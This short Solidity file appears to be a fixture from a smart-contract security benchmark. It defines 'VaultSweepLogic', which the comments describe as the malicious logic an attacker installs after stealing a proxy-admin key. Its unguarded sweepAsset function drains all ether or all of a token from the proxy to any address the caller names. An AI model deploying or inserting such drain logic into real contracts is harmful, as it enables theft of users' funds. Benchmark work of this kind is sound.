// SPDX-License-Identifier: Apache-2.0
pragma solidity 0.8.30;

import {IERC20} from "../../breakers/Transfers.sol";

/// @title VaultSweepLogic
/// @notice Benchmark attacker: the code a stolen proxy-admin key upgrades `PausableAssetProxy` to.
/// `sweepAsset`, run through the proxy's fallback, sends the proxy's ether or one token to `to`.
contract VaultSweepLogic {
    function sweepAsset(address asset, address to) external {
        if (asset == address(0)) {
            (bool ok,) = payable(to).call{value: address(this).balance}("");
            require(ok);
        } else {
            IERC20(asset).transfer(to, IERC20(asset).balanceOf(address(this)));
        }
    }
}
